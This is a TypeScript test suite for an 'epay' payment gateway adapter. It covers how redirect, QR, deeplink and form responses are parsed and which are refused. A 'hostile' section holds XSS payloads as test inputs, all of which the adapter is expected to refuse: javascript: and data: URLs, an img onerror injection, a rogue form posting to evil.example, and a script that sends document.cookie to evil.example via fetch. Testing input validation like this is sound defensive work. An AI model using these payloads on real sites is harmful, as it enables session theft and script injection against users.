import { expect } from '@open-wc/testing';
import { epay } from '../../../src/gateways/epay.js';
import { registerGateway, type ToActionOptions, toAction } from '../../../src/gateways/registry.js';
import {
  ALIPAY_APP_ORDER_STRING,
  ALIPAY_F2F_CODE,
  ALIPAY_SUBMIT_SCRIPT,
  ALIPAY_WAP_FIELDS,
  ALIPAYQR_URLSCHEME,
  ALIPAYS_URLSCHEME,
  alipaySdkForm,
  CLASSIC_ALIPAY_FIELDS,
  CLASSIC_ALIPAY_FORM,
  EXTEND_PARAMS,
  MAPI_GET_FORM,
  MAPI_GET_TARGET,
  MINUS_ONE_MESSAGES,
  MINUS_TWO_MESSAGES,
  PHP_WARNING_PREFIX,
  phpJson,
  ROOT_RELATIVE_QRCODE,
  SEED_PAYURL,
  SEED_QRCODE,
  SEED_TRADE_NO,
  SEED_URLSCHEME,
  TRADE_NO,
} from './fixtures/epay.js';
import { expectRefused } from './helpers.js';

registerGateway('epay', epay);

const gateway = 'epay';
// The test page is served over http:, where allowInsecure would default to true; every test says
// which kind of merchant page it stands for.
const HTTPS_PAGE: ToActionOptions = { allowInsecure: false };
const run = (response: unknown, options: ToActionOptions = HTTPS_PAGE) => toAction('epay', response, options);

/** What `echoJson()` sends for code 1: `{"code":1,"trade_no":…, <one field>}`. */
const ok = (fields: Record<string, unknown>, tradeNo: unknown = TRADE_NO) => ({
  code: 1,
  trade_no: tradeNo,
  ...fields,
});

const EPAY_PAGE = `https://pay.example.com/pay/submit/${TRADE_NO}/`;
const ALIPAY_F2F = 'https://qr.alipay.com/bax08861ymbbwjhfyrpd0053';

describe('epay adapter', () => {
  describe('payurl -> redirect', () => {
    it('seed sample: http: payurl -> redirect when allowInsecure is true', () => {
      const body = { code: 1, msg: '', trade_no: SEED_TRADE_NO, payurl: SEED_PAYURL };
      expect(run(body, { allowInsecure: true })).to.deep.equal({
        kind: 'redirect',
        url: SEED_PAYURL,
        gateway,
        reference: SEED_TRADE_NO,
      });
    });

    it('seed sample: http: payurl -> unsafe_url_scheme when allowInsecure is false', () => {
      expectRefused(() => run({ code: 1, msg: '', trade_no: SEED_TRADE_NO, payurl: SEED_PAYURL }), 'unsafe_url_scheme');
    });

    it('https payurl (the gateway page pay/submit/{trade_no}/, device=jump) -> redirect', () => {
      expect(run(ok({ payurl: EPAY_PAGE }))).to.deep.equal({
        kind: 'redirect',
        url: EPAY_PAGE,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('relative payurl pay/wxpay/202010903/ (the built-in docs example) -> relative_url', () => {
      expectRefused(() => run(ok({ payurl: 'pay/wxpay/202010903/' }), { allowInsecure: true }), 'relative_url');
    });

    it('relative payurl ./cashier.php?trade_no=… (domparso/epay) -> relative_url', () => {
      const payurl = `./cashier.php?trade_no=${TRADE_NO}&sitename=&other=1`;
      expectRefused(() => run(ok({ payurl }), { allowInsecure: true }), 'relative_url');
    });
  });

  describe('qrcode -> qr', () => {
    it('seed sample: weixin://wxpay/bizpayurl (WeChat Native) -> qr', () => {
      expect(run(ok({ qrcode: SEED_QRCODE }, SEED_TRADE_NO))).to.deep.equal({
        kind: 'qr',
        content: SEED_QRCODE,
        gateway,
        reference: SEED_TRADE_NO,
      });
    });

    it('https://qr.alipay.com/… (Alipay F2F precreate) -> qr', () => {
      expect(run(ok({ qrcode: ALIPAY_F2F }))).to.deep.equal({
        kind: 'qr',
        content: ALIPAY_F2F,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('QQ wallet URL -> qr', () => {
      const content = 'https://qpay.qq.com/qr/5a6e1c3f';
      expect(run(ok({ qrcode: content }))).to.deep.equal({ kind: 'qr', content, gateway, reference: TRADE_NO });
    });

    it('https epay page …/pay/submitwap/{trade_no}/ -> qr, never a redirect', () => {
      const content = `https://pay.example.com/pay/submitwap/${TRADE_NO}/`;
      expect(run(ok({ qrcode: content }))).to.deep.equal({ kind: 'qr', content, gateway, reference: TRADE_NO });
    });

    it('qrcode with a control character -> invalid_field', () => {
      expectRefused(() => run(ok({ qrcode: 'weixin://wxpay/bizpayurl?pr=04IP\nMKM' })), 'invalid_field');
    });

    it('qrcode with a lone surrogate -> invalid_field; a paired one (an emoji) is kept', () => {
      // The code would encode U+FFFD where the copied link has the surrogate: they must not differ.
      expectRefused(() => run(ok({ qrcode: 'weixin://wxpay/bizpayurl?pr=04IP\ud800' })), 'invalid_field');
      expectRefused(() => run(ok({ qrcode: 'weixin://wxpay/bizpayurl?pr=\udc00MKM' })), 'invalid_field');
      const content = 'https://pay.example.com/收银台?note=🧾';
      expect(run(ok({ qrcode: content }))).to.include({ kind: 'qr', content });
    });
  });

  describe('urlscheme -> deeplink', () => {
    it('seed sample: weixin://dl/business/?ticket=xxx -> deeplink', () => {
      expect(run(ok({ urlscheme: SEED_URLSCHEME }, SEED_TRADE_NO))).to.deep.equal({
        kind: 'deeplink',
        url: SEED_URLSCHEME,
        gateway,
        reference: SEED_TRADE_NO,
      });
    });

    it('weixin://dl/business/?t=… (mini-program pay) -> deeplink', () => {
      const url = 'weixin://dl/business/?t=Mz1pQvWw5Yk';
      expect(run(ok({ urlscheme: url }))).to.deep.equal({ kind: 'deeplink', url, gateway, reference: TRADE_NO });
    });

    it('urlscheme with an app scheme outside the allow-list (mqqapi:) -> unsafe_url_scheme', () => {
      // alipays: was the example here until the allow-list took Alipay's schemes (GATEWAYS.md §7).
      const urlscheme = 'mqqapi://forward/url?src_type=web&url_prefix=aHR0cHM6Ly9ldmlsLmV4YW1wbGUv';
      expectRefused(() => run(ok({ urlscheme })), 'unsafe_url_scheme');
    });
  });

  describe('html -> form', () => {
    it('epay Alipay plugin form (cccyun AopClient::pageExecute) -> form POST, fields decoded', () => {
      expect(run(ok({ html: alipaySdkForm() }))).to.deep.equal({
        kind: 'form',
        action: 'https://openapi.alipay.com/gateway.do?charset=UTF-8',
        method: 'POST',
        fields: ALIPAY_WAP_FIELDS,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('official Alipay SDK form with the stray quote on the submit button -> form POST', () => {
      expect(run(ok({ html: CLASSIC_ALIPAY_FORM }))).to.deep.equal({
        kind: 'form',
        action: 'https://openapi.alipay.com/gateway.do?charset=UTF-8',
        method: 'POST',
        fields: CLASSIC_ALIPAY_FIELDS,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('html form in a raw PHP JSON body (escaped slashes and \\u escapes) -> form POST', () => {
      const text = phpJson(ok({ html: alipaySdkForm() }));
      expect(text).to.contain('https:\\/\\/openapi.alipay.com').and.contain('\\u4f1a');
      expect(run(text)).to.deep.equal({
        kind: 'form',
        action: 'https://openapi.alipay.com/gateway.do?charset=UTF-8',
        method: 'POST',
        fields: ALIPAY_WAP_FIELDS,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('form action outside the Alipay hosts -> form (scheme checked only, no host allow-list)', () => {
      const action = 'https://gateway.upstream-pay.example/submit.php';
      expect(run(ok({ html: alipaySdkForm(action) }))).to.deep.equal({
        kind: 'form',
        action,
        method: 'POST',
        fields: ALIPAY_WAP_FIELDS,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('form action javascript: -> unsafe_url_scheme', () => {
      expectRefused(() => run(ok({ html: alipaySdkForm('javascript:alert(document.domain)') })), 'unsafe_url_scheme');
    });

    it('form action http: on an https page -> unsafe_url_scheme', () => {
      expectRefused(
        () => run(ok({ html: alipaySdkForm('http://gateway.upstream-pay.example/submit.php') })),
        'unsafe_url_scheme',
      );
    });

    it('relative form action -> relative_url', () => {
      expectRefused(() => run(ok({ html: alipaySdkForm('submit.php') })), 'relative_url');
    });

    it('GET form (legacy Alipay mapi SDK) -> redirect with the fields merged into the action query', () => {
      expect(run(ok({ html: MAPI_GET_FORM }))).to.deep.equal({
        kind: 'redirect',
        url: MAPI_GET_TARGET,
        gateway,
        reference: TRADE_NO,
      });
    });

    it("GET form keeps the action's own query pairs byte for byte -> redirect", () => {
      const html = alipaySdkForm(
        'https://pay.example.com/submit.php?channel=7&sig=a%2Bb%2F',
        { trade_no: TRADE_NO, name: 'VIP 会员' },
        'get',
      );
      expect(run(ok({ html }))).to.deep.equal({
        kind: 'redirect',
        url: `https://pay.example.com/submit.php?channel=7&sig=a%2Bb%2F&trade_no=${TRADE_NO}&name=VIP+%E4%BC%9A%E5%91%98`,
        gateway,
        reference: TRADE_NO,
      });
    });
  });

  describe('precedence: ignore "", then payurl > qrcode > urlscheme > html', () => {
    it('payurl and qrcode -> redirect', () => {
      expect(run(ok({ payurl: EPAY_PAGE, qrcode: SEED_QRCODE }))).to.deep.equal({
        kind: 'redirect',
        url: EPAY_PAGE,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('payurl and html -> redirect', () => {
      expect(run(ok({ html: alipaySdkForm(), payurl: EPAY_PAGE }))).to.deep.equal({
        kind: 'redirect',
        url: EPAY_PAGE,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('qrcode and urlscheme -> qr', () => {
      expect(run(ok({ urlscheme: SEED_URLSCHEME, qrcode: SEED_QRCODE }))).to.deep.equal({
        kind: 'qr',
        content: SEED_QRCODE,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('qrcode and html -> qr', () => {
      expect(run(ok({ html: alipaySdkForm(), qrcode: ALIPAY_F2F }))).to.deep.equal({
        kind: 'qr',
        content: ALIPAY_F2F,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('urlscheme and html -> deeplink', () => {
      expect(run(ok({ html: alipaySdkForm(), urlscheme: SEED_URLSCHEME }))).to.deep.equal({
        kind: 'deeplink',
        url: SEED_URLSCHEME,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('all four fields, "" for the unused ones, qrcode set -> qr', () => {
      expect(run(ok({ payurl: '', qrcode: SEED_QRCODE, urlscheme: '', html: '' }))).to.deep.equal({
        kind: 'qr',
        content: SEED_QRCODE,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('all four fields, "" for the unused ones, html set -> form', () => {
      expect(run(ok({ payurl: '', qrcode: '', urlscheme: '', html: CLASSIC_ALIPAY_FORM }))).to.deep.equal({
        kind: 'form',
        action: 'https://openapi.alipay.com/gateway.do?charset=UTF-8',
        method: 'POST',
        fields: CLASSIC_ALIPAY_FIELDS,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('null counts as empty: payurl null and qrcode set -> qr', () => {
      expect(run(ok({ payurl: null, qrcode: SEED_QRCODE }))).to.deep.equal({
        kind: 'qr',
        content: SEED_QRCODE,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('a refused payurl does not fall back to a valid qrcode -> unsafe_url_scheme', () => {
      expectRefused(() => run(ok({ payurl: 'javascript:alert(1)', qrcode: SEED_QRCODE })), 'unsafe_url_scheme');
    });
  });

  describe('code', () => {
    it('code "1" as a string (non-PHP clone) -> accepted', () => {
      expect(run({ code: '1', trade_no: TRADE_NO, qrcode: SEED_QRCODE })).to.deep.equal({
        kind: 'qr',
        content: SEED_QRCODE,
        gateway,
        reference: TRADE_NO,
      });
    });

    it('code "-1" as a string -> failed("-1")', () => {
      expect(run({ code: '-1', msg: '商户不存在！' })).to.deep.equal({
        kind: 'failed',
        code: '-1',
        message: '商户不存在！',
        gateway,
      });
    });

    it('code 1 with none of the fields -> missing_action', () => {
      expectRefused(() => run({ code: 1, trade_no: TRADE_NO }), 'missing_action');
    });

    it('code 1 with every field "" -> missing_action', () => {
      expectRefused(() => run(ok({ payurl: '', qrcode: '', urlscheme: '', html: '' })), 'missing_action');
    });

    it('code that is not an integer ("ok") -> invalid_field', () => {
      expectRefused(() => run({ code: 'ok', qrcode: SEED_QRCODE }), 'invalid_field');
    });

    it('no code -> missing_field', () => {
      expectRefused(() => run({ trade_no: TRADE_NO, qrcode: SEED_QRCODE }), 'missing_field');
    });

    it('payurl that is not a string -> invalid_field', () => {
      expectRefused(() => run(ok({ payurl: { url: EPAY_PAGE } })), 'invalid_field');
    });
  });

  describe('trade_no -> reference', () => {
    it('trade_no string -> reference, byte for byte (leading zeros kept)', () => {
      expect(run(ok({ qrcode: SEED_QRCODE }, '0020240520131415123'))).to.deep.equal({
        kind: 'qr',
        content: SEED_QRCODE,
        gateway,
        reference: '0020240520131415123',
      });
    });

    it('trade_no as a safe-integer JSON number -> reference as a string', () => {
      const text = `{"code":1,"trade_no":20200806151343,"qrcode":"weixin:\\/\\/wxpay\\/bizpayurl?pr=04IPMKM"}`;
      expect(run(text)).to.deep.equal({ kind: 'qr', content: SEED_QRCODE, gateway, reference: '20200806151343' });
    });

    it('trade_no as a 19-digit JSON number (precision lost) -> no reference', () => {
      const text = `{"code":1,"trade_no":${TRADE_NO},"qrcode":"weixin:\\/\\/wxpay\\/bizpayurl?pr=04IPMKM"}`;
      expect(run(text)).to.deep.equal({ kind: 'qr', content: SEED_QRCODE, gateway });
    });

    it('no trade_no -> no reference', () => {
      expect(run({ code: 1, qrcode: SEED_QRCODE })).to.deep.equal({ kind: 'qr', content: SEED_QRCODE, gateway });
    });
  });

  describe('raw body text', () => {
    it('PHP-escaped slashes (weixin:\\/\\/…) in a raw JSON text body -> qr', () => {
      const text = phpJson(ok({ qrcode: SEED_QRCODE }, SEED_TRADE_NO));
      expect(text).to.equal(
        `{"code":1,"trade_no":"${SEED_TRADE_NO}","qrcode":"weixin:\\/\\/wxpay\\/bizpayurl?pr=04IPMKM"}`,
      );
      expect(run(text)).to.deep.equal({ kind: 'qr', content: SEED_QRCODE, gateway, reference: SEED_TRADE_NO });
    });

    it('PHP-escaped slashes in an https payurl text body -> redirect', () => {
      const text = phpJson(ok({ payurl: EPAY_PAGE }));
      expect(run(text)).to.deep.equal({ kind: 'redirect', url: EPAY_PAGE, gateway, reference: TRADE_NO });
    });

    it('PHP warning printed before the JSON -> invalid_json', () => {
      const text = `${PHP_WARNING_PREFIX}{"code":1,"trade_no":"TRADE_NO","payurl":"https:\\/\\/pay.example.com\\/cashier.php?trade_no=${TRADE_NO}&sitename=&other=1"}`;
      expectRefused(() => run(text), 'invalid_json');
    });

    it('body that starts like JSON but is cut off -> invalid_json', () => {
      expectRefused(() => run('{"code":1,"trade_no":"2024052013141512345","qrcode":"weixin:\\/\\/wxp'), 'invalid_json');
    });
  });

  describe('failure codes -> failed', () => {
    for (const message of MINUS_ONE_MESSAGES) {
      it(`code -1 "${message}" -> failed("-1", msg)`, () => {
        const text = phpJson({ code: -1, msg: message }, { unescapedUnicode: true });
        expect(run(text)).to.deep.equal({ kind: 'failed', code: '-1', message, gateway });
      });
    }

    for (const message of MINUS_TWO_MESSAGES) {
      it(`code -2 "${message}" (echoJson, \\u-escaped) -> failed("-2", msg) with the trade_no`, () => {
        const text = phpJson({ code: -2, trade_no: TRADE_NO, msg: message });
        expect(text).to.match(/\\u[0-9a-f]{4}/);
        expect(run(text)).to.deep.equal({ kind: 'failed', code: '-2', message, gateway, reference: TRADE_NO });
      });
    }

    it('code -4 "未传入任何参数" (no pid) -> failed("-4", msg)', () => {
      expect(run('{"code":-4, "msg":"未传入任何参数"}')).to.deep.equal({
        kind: 'failed',
        code: '-4',
        message: '未传入任何参数',
        gateway,
      });
    });

    it('code -1 without msg -> failed("-1") without a message', () => {
      expect(run({ code: -1 })).to.deep.equal({ kind: 'failed', code: '-1', gateway });
    });

    it('failure code with a payurl -> failed, the payurl is ignored', () => {
      expect(run({ code: -2, msg: MINUS_TWO_MESSAGES[0], payurl: 'javascript:alert(1)' })).to.deep.equal({
        kind: 'failed',
        code: '-2',
        message: MINUS_TWO_MESSAGES[0],
        gateway,
      });
    });

    it('code 0 with data (the Alipay app order string, device=app) -> unsupported_response', () => {
      expectRefused(() => run(phpJson({ code: 0, data: ALIPAY_APP_ORDER_STRING })), 'unsupported_response');
    });

    it('code 0 without data -> failed("0")', () => {
      expect(run({ code: 0, msg: '创建订单失败，请返回重试！' })).to.deep.equal({
        kind: 'failed',
        code: '0',
        message: '创建订单失败，请返回重试！',
        gateway,
      });
    });
  });

  describe('hostile', () => {
    it('javascript: payurl -> unsafe_url_scheme', () => {
      expectRefused(
        () => run(ok({ payurl: 'javascript:alert(document.cookie)' }), { allowInsecure: true }),
        'unsafe_url_scheme',
      );
    });

    it('javascript: payurl hidden behind whitespace, tab and newline -> unsafe_url_scheme', () => {
      expectRefused(
        () => run(ok({ payurl: ' \n java\tscript:alert(1)' }), { allowInsecure: true }),
        'unsafe_url_scheme',
      );
    });

    it('data: payurl -> unsafe_url_scheme', () => {
      const payurl = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';
      expectRefused(() => run(ok({ payurl }), { allowInsecure: true }), 'unsafe_url_scheme');
    });

    it('scheme-relative payurl //evil.example -> relative_url', () => {
      expectRefused(() => run(ok({ payurl: '//evil.example/pay/submit/1/' }), { allowInsecure: true }), 'relative_url');
    });

    it('html with an <img onerror> -> unexpected_markup', () => {
      const html = alipaySdkForm().replace('</form>', '<img src=x onerror="alert(document.cookie)"></form>');
      expectRefused(() => run(ok({ html })), 'unexpected_markup');
    });

    it('html with a second form -> unexpected_markup', () => {
      const second =
        "<form id='steal' action='https://evil.example/collect' method='POST'><input type='hidden' name='a' value='b'/></form>";
      expectRefused(() => run(ok({ html: alipaySdkForm() + second })), 'unexpected_markup');
    });

    it('html with a script other than the submit line -> unexpected_markup', () => {
      const html = alipaySdkForm().replace(
        ALIPAY_SUBMIT_SCRIPT,
        "<script>document.forms['alipaysubmit'].submit();fetch('https://evil.example/?c='+document.cookie)</script>",
      );
      expectRefused(() => run(ok({ html })), 'unexpected_markup');
    });

    it('html that is not a form (a JSAPI script page) -> unexpected_markup', () => {
      const html =
        '<script>WeixinJSBridge.invoke(\'getBrandWCPayRequest\', {"appId":"wx0"}, function(res){ location.href=\'/\'; });</script>';
      expectRefused(() => run(ok({ html })), 'unexpected_markup');
    });
  });
  describe('real answers of epay clones (GATEWAYS.md §7)', () => {
    describe('"success" beside or instead of "code"', () => {
      it('real answer: success:true without code and a payurl is a redirect', () => {
        const text = phpJson({ success: true, trade_no: TRADE_NO, payurl: EPAY_PAGE });
        expect(run(text)).to.deep.equal({ kind: 'redirect', url: EPAY_PAGE, gateway, reference: TRADE_NO });
      });

      it('real answer: code 1 and success:true together with a qrcode is a qr', () => {
        const text = phpJson({ code: 1, success: true, msg: '', trade_no: TRADE_NO, qrcode: SEED_QRCODE });
        expect(run(text)).to.deep.equal({ kind: 'qr', content: SEED_QRCODE, gateway, reference: TRADE_NO });
      });

      it('real answer: success:true without code and without any action field is missing_action', () => {
        expectRefused(() => run({ success: true, trade_no: TRADE_NO }), 'missing_action');
      });

      it('real answer: success:false without code with a msg is failed("0") with the msg', () => {
        const text = phpJson({ success: false, msg: '商户不存在！' });
        expect(run(text)).to.deep.equal({ kind: 'failed', code: '0', message: '商户不存在！', gateway });
      });

      it('real answer: success:false without code with a message is failed("0") with the message', () => {
        const text = phpJson({ success: false, message: '签名校验失败，请返回重试！' });
        expect(run(text)).to.deep.equal({ kind: 'failed', code: '0', message: '签名校验失败，请返回重试！', gateway });
      });

      it('real answer: success:false alone is failed("0") without a message', () => {
        expect(run('{"success":false}')).to.deep.equal({ kind: 'failed', code: '0', gateway });
      });

      it('real answer: success:false without code but with a payurl is failed, the payurl is ignored', () => {
        expect(run({ success: false, msg: '创建订单失败，请返回重试！', payurl: EPAY_PAGE })).to.deep.equal({
          kind: 'failed',
          code: '0',
          message: '创建订单失败，请返回重试！',
          gateway,
        });
      });

      it('real answer: code -1 with success:true is failed("-1"): code, the documented field, wins', () => {
        expect(run({ code: -1, success: true, msg: '商户不存在！', payurl: EPAY_PAGE })).to.deep.equal({
          kind: 'failed',
          code: '-1',
          message: '商户不存在！',
          gateway,
        });
      });

      it('real answer: code 1 with success:false and a payurl is a redirect: code wins', () => {
        expect(run(ok({ success: false, payurl: EPAY_PAGE }))).to.deep.equal({
          kind: 'redirect',
          url: EPAY_PAGE,
          gateway,
          reference: TRADE_NO,
        });
      });

      it('real answer: code -1 with message instead of msg is failed("-1") with the message', () => {
        expect(run({ code: -1, message: '商户不存在！' })).to.deep.equal({
          kind: 'failed',
          code: '-1',
          message: '商户不存在！',
          gateway,
        });
      });

      it('success "true" as a string without code -> invalid_field', () => {
        expectRefused(() => run({ success: 'true', payurl: EPAY_PAGE }), 'invalid_field');
      });
    });

    describe('"qr_code" for "qrcode"', () => {
      it('real answer: qr_code with an Alipay F2F code is a qr', () => {
        const text = phpJson({ code: 1, msg: '', trade_no: TRADE_NO, qr_code: ALIPAY_F2F_CODE });
        expect(run(text)).to.deep.equal({ kind: 'qr', content: ALIPAY_F2F_CODE, gateway, reference: TRADE_NO });
      });

      it('real answer: success:true with qr_code is a qr', () => {
        const text = phpJson({ success: true, trade_no: TRADE_NO, qr_code: SEED_QRCODE });
        expect(run(text)).to.deep.equal({ kind: 'qr', content: SEED_QRCODE, gateway, reference: TRADE_NO });
      });

      it('real answer: payurl beside qr_code is a redirect (payurl first, as with qrcode)', () => {
        expect(run(ok({ payurl: EPAY_PAGE, qr_code: SEED_QRCODE }))).to.deep.equal({
          kind: 'redirect',
          url: EPAY_PAGE,
          gateway,
          reference: TRADE_NO,
        });
      });

      it('real answer: qr_code beside urlscheme is a qr (the qrcode slot comes before urlscheme)', () => {
        expect(run(ok({ urlscheme: SEED_URLSCHEME, qr_code: ALIPAY_F2F_CODE }))).to.deep.equal({
          kind: 'qr',
          content: ALIPAY_F2F_CODE,
          gateway,
          reference: TRADE_NO,
        });
      });

      it('real answer: qrcode "" and qr_code set is a qr of qr_code', () => {
        expect(run(ok({ payurl: '', qrcode: '', qr_code: SEED_QRCODE }))).to.deep.equal({
          kind: 'qr',
          content: SEED_QRCODE,
          gateway,
          reference: TRADE_NO,
        });
      });
    });

    describe('"payurl2", the mobile cashier URL', () => {
      const MOBILE_PAGE = `https://pay.example.com/pay/submitwap/${TRADE_NO}/`;

      it('real answer: payurl beside payurl2 is a redirect to payurl', () => {
        const text = phpJson(ok({ payurl: EPAY_PAGE, payurl2: MOBILE_PAGE }));
        expect(run(text)).to.deep.equal({ kind: 'redirect', url: EPAY_PAGE, gateway, reference: TRADE_NO });
      });

      it('real answer: payurl "" and payurl2 set is a redirect to payurl2', () => {
        expect(run(ok({ payurl: '', payurl2: MOBILE_PAGE, qrcode: SEED_QRCODE }))).to.deep.equal({
          kind: 'redirect',
          url: MOBILE_PAGE,
          gateway,
          reference: TRADE_NO,
        });
      });

      it('real answer: payurl2 alone is a redirect to payurl2', () => {
        expect(run(ok({ payurl2: MOBILE_PAGE }))).to.deep.equal({
          kind: 'redirect',
          url: MOBILE_PAGE,
          gateway,
          reference: TRADE_NO,
        });
      });

      it('javascript: payurl2 -> unsafe_url_scheme', () => {
        expectRefused(() => run(ok({ payurl2: 'javascript:alert(1)', qrcode: SEED_QRCODE })), 'unsafe_url_scheme');
      });

      it('relative payurl2 /h5/pay/… -> relative_url', () => {
        expectRefused(() => run(ok({ payurl2: `/h5/pay/${TRADE_NO}` }), { allowInsecure: true }), 'relative_url');
      });
    });

    describe('"qrcode": null with "extend_params"', () => {
      it('real answer: qrcode null and extend_params beside a payurl is a redirect', () => {
        const text = phpJson(ok({ payurl: EPAY_PAGE, qrcode: null, urlscheme: null, extend_params: EXTEND_PARAMS }));
        expect(text).to.contain('"qrcode":null').and.contain('"extend_params":{');
        expect(run(text)).to.deep.equal({ kind: 'redirect', url: EPAY_PAGE, gateway, reference: TRADE_NO });
      });

      it('real answer: qrcode null and extend_params beside a qr_code is a qr', () => {
        expect(run(ok({ qrcode: null, qr_code: ALIPAY_F2F_CODE, extend_params: EXTEND_PARAMS }))).to.deep.equal({
          kind: 'qr',
          content: ALIPAY_F2F_CODE,
          gateway,
          reference: TRADE_NO,
        });
      });

      it('real answer: extend_params as a JSON string or an empty array is ignored too', () => {
        for (const extend_params of [JSON.stringify(EXTEND_PARAMS), []]) {
          expect(run(ok({ qrcode: null, payurl: EPAY_PAGE, extend_params }))).to.deep.equal({
            kind: 'redirect',
            url: EPAY_PAGE,
            gateway,
            reference: TRADE_NO,
          });
        }
      });
    });

    describe('failures without msg and \\u-escaped messages', () => {
      it('real answer: {"code": -4} without msg is failed("-4") without a message', () => {
        expect(run('{"code": -4}')).to.deep.equal({ kind: 'failed', code: '-4', gateway });
      });

      it('real answer: \\u-escaped msg in the raw JSON text is failed("-1") with the decoded message', () => {
        const text = '{"code":-1,"msg":"\\u7b7e\\u540d\\u9519\\u8bef"}';
        expect(text).to.contain('\\u7b7e').and.not.contain('签');
        expect(run(text)).to.deep.equal({ kind: 'failed', code: '-1', message: '签名错误', gateway });
      });

      it('real answer: \\u-escaped message (uppercase hex) with success:false is failed("0") decoded', () => {
        const text = '{"success":false,"message":"\\u7B7E\\u540D\\u9519\\u8BEF"}';
        expect(run(text)).to.deep.equal({ kind: 'failed', code: '0', message: '签名错误', gateway });
      });
    });

    describe('Alipay urlschemes (needs alipays:/alipay:/alipayqr: in DEEPLINK_SCHEMES)', () => {
      it('real answer: alipays://platformapi/startapp?saId=10000007&qrcode=… is a deeplink', () => {
        const text = phpJson(ok({ urlscheme: ALIPAYS_URLSCHEME }));
        expect(run(text)).to.deep.equal({ kind: 'deeplink', url: ALIPAYS_URLSCHEME, gateway, reference: TRADE_NO });
      });

      it('real answer: alipayqr://platformapi/startapp?saId=10000007&qrcode=… is a deeplink', () => {
        const text = phpJson(ok({ urlscheme: ALIPAYQR_URLSCHEME }));
        expect(run(text)).to.deep.equal({ kind: 'deeplink', url: ALIPAYQR_URLSCHEME, gateway, reference: TRADE_NO });
      });

      it('urlscheme javascript:, intent: or tel: -> unsafe_url_scheme', () => {
        const hostile = [
          'javascript:alert(document.cookie)',
          'intent://platformapi/startapp?saId=10000007#Intent;scheme=alipays;package=com.eg.android.AlipayGphone;end',
          'tel:+8613800138000',
        ];
        for (const urlscheme of hostile) {
          expectRefused(() => run(ok({ urlscheme })), 'unsafe_url_scheme');
        }
      });
    });

    describe('relative QR content', () => {
      it('real answer: a root-relative qrcode /api/pay/toapp/… -> relative_url', () => {
        const text = phpJson(ok({ qrcode: ROOT_RELATIVE_QRCODE }));
        expectRefused(() => run(text), 'relative_url');
      });

      it('real answer: relative payurl, payurl2 and qrcode together -> relative_url', () => {
        const body = {
          code: 1,
          trade_no: TRADE_NO,
          payurl: `/pc/pay/${TRADE_NO}`,
          payurl2: `/h5/pay/${TRADE_NO}`,
          qrcode: ROOT_RELATIVE_QRCODE,
        };
        expectRefused(() => run(body, { allowInsecure: true }), 'relative_url');
      });

      it('qrcode ./qrcode.php?… or ../pay/qrcode/… -> relative_url', () => {
        for (const qrcode of [`./qrcode.php?trade_no=${TRADE_NO}`, `../pay/qrcode/${TRADE_NO}/`]) {
          expectRefused(() => run(ok({ qrcode })), 'relative_url');
        }
      });

      it('qr_code that is root-relative -> relative_url', () => {
        expectRefused(() => run(ok({ qr_code: ROOT_RELATIVE_QRCODE })), 'relative_url');
      });
    });
  });
});
